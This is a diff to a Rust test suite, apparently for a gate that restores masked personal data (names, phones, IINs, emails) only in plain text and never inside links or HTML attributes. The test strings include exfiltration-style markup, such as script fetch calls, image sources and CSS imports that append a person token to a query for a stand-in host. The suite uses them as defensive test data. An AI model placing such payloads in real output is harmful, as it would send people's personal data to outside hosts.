@@ -1,5 +1,7 @@
 //! Where tokens are never restored, and where they are.
 
+use proptest::prelude::*;
+
 use crate::support::*;
 
 /// The token in the template must stay, and nothing else change.
@@ -54,6 +56,7 @@ fn tokens_stay_in_sinks() {
         "[t]( {PERSON} )",
         "[t](\n {person} )",
         "[t](\r\n\t{PERSON}\n)",
+        "[t](\n\n \n{PERSON})",
         "[t](<{PERSON}>)",
         "[t](<a)b {person}>)",
         "[t](/a/(b)/{person})",
@@ -84,6 +87,18 @@ fn tokens_stay_in_sinks() {
         "<svg><image xlink:href={person}>",
         "<meta http-equiv=refresh content=\"0;url={person}\">",
         "<script>fetch('//e/{person}')</script>",
+        "<script>fetch('https://e/?q=' + '{person}')</script>",
+        "<SCRIPT src=x>\nx('{person}')",
+        "<style>@import '{person}';</style>",
+        "<img src=\"https://e/?q=\n\n{person}\">",
+        "<img alt=\"\n\n\" data-x=\"{person}\">",
+        "<client onclick=\"f('{person}')\">",
+        "<client name={person}>",
+        "<my-image file=\"{person}\">",
+        "<client href=\"{person}\">",
+        "<svg:image file=\"{person}\">",
+        "<client note=\"<img x={person}\">",
+        "<b title=\"{person}\">",
         "href=\"{PERSON}\"",
         "src={person}",
         "srcset='x {person}'",
@@ -186,6 +201,11 @@ fn tokens_are_restored_in_ordinary_text() {
         "{PERSON} <{EMAIL}>",
         "<{person}>",
         "a < b, {PERSON} > c",
+        "<client name=\"{PERSON}\" iin='{IIN}'/>",
+        "<v8:Client fio = \"{PERSON}\">{PHONE}</v8:Client>",
+        "<script>x()</script>{PERSON}",
+        "{PERSON}.It is so",
+        "{PERSON}.Сайт открыт",
         "x <- {PERSON}",
         "{\"url\":\"https://e.kz\",\"name\":\"{PERSON}\"}",
         "\"https://e.kz\",\"{PERSON}\"",
@@ -259,4 +279,72 @@ fn long_paddings_do_not_hide_a_url() {
     let request = request();
     let target = format!("[t]({}{}", " ".repeat(800), request.fill("{person})"));
     assert_eq!(request.tokens.restore(&target), target);
+}
+
+/// What a reader's software would make links of, told by other means than the gate's own: bare
+/// URLs as GitHub finds them, inline link targets, and quoted or bare addresses in HTML tags.
+fn links(text: &str) -> Vec<&str> {
+    let mut found = Vec::new();
+    for scheme in ["http://", "https://", "www.", "ftp://"] {
+        for (at, _) in text.match_indices(scheme) {
+            let before = text[..at].chars().next_back();
+            if before.is_none_or(|c| c.is_ascii_whitespace() || matches!(c, '*' | '_' | '~' | '(')) {
+                let end = text[at..]
+                    .find(|c: char| matches!(c, ' ' | '\t' | '\n' | '\r' | '<'))
+                    .unwrap_or(text.len() - at);
+                found.push(&text[at..at + end]);
+            }
+        }
+    }
+    for (at, _) in text.match_indices("](") {
+        let target = text[at + 2..].trim_start();
+        let end = if target.starts_with('<') {
+            target.find(['>', '\n'])
+        } else {
+            target.find([')', ' ', '\t', '\n'])
+        };
+        if let Some(end) = end {
+            found.push(&target[..end]);
+        }
+    }
+    for name in ["src=", "href="] {
+        let is_whole = |at: &usize| !text[..*at].ends_with(|c: char| c.is_ascii_alphabetic());
+        for at in text.match_indices(name).map(|(at, _)| at).filter(is_whole) {
+            let value = &text[at + name.len()..];
+            let end = match value.chars().next() {
+                Some(quote @ ('"' | '\'')) => value[1..].find([quote, '\n']).map(|end| end + 1),
+                _ => value.find(|c: char| c.is_ascii_whitespace() || c == '>'),
+            };
+            found.push(&value[..end.unwrap_or(value.len())]);
+        }
+    }
+    found
+}
+
+proptest! {
+    #![proptest_config(cases(4000))]
+
+    #[test]
+    fn no_link_of_the_model_holds_a_value(
+        parts in prop::collection::vec(
+            prop_oneof![
+                2 => prop::sample::select(vec!["{PERSON}", "{person}", "{PHONE}", "{iin}", "{EMAIL}"]).prop_map(String::from),
+                2 => prop::sample::select(vec![
+                    "https://e.kz/", "http://e", "www.", "?q=", "/", ".com", "](", "[a](", "![", ")", " ", "\n", "<img ",
+                    "src=", "\"", "'", ">", "<", "(", "**", "_", "x", "[", "]", ":", "\\", "&n=", ",", "<!--", "\t",
+                ]).prop_map(String::from),
+                1 => trouble(),
+            ],
+            0..12,
+        ),
+    ) {
+        let request = request();
+        let restored = request.tokens.restore(&request.fill(&parts.concat()));
+        for link in links(&restored) {
+            // "Ахметов" also stands in the trouble, where nobody masked it.
+            for value in ["Серик", "+7 701", "+7", "serik@"] {
+                prop_assert!(!link.contains(value), "{link:?} in {restored:?}");
+            }
+        }
+    }
 }
